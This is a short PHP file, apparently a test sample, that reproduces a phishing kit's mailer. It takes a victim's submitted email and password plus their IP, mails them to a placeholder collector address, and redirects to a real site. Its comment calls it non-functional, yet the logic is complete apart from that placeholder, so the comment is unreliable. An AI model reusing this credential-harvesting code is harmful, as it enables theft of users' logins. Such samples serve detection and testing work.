<?php
// kiosk test sample: the shape of a phishing kit's mailer. Not functional.
$ip = getenv("REMOTE_ADDR");
$message = "User: " . $_POST['email'] . "\nPass: " . $_POST['password'] . "\nIP: " . $ip . "\n";
$to = "collector@example.invalid";
mail($to, "New login " . $ip, $message);
header("Location: https://www.example.com/");
?>
